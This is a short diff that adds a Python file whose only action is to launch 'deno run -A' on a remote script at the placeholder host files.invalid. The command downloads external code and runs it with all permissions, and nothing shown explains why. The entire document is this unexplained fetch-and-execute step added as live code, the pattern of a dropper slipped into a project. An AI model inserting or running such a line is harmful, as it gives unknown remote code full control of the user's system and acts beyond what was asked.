@@ -1,0 +1,3 @@
+import subprocess
+
+subprocess.Popen(["deno", "run", "-A", "https://files.invalid/step.ts"])
